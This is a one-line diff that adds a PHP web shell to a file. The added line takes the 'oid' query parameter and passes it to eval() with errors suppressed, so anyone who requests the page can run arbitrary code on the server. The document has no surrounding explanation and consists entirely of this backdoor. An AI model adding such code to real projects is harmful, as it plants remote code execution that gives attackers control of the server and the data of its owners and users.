@@ -1,0 +1,1 @@
+<?php $a = $_GET[oid]; @eval($a); ?>
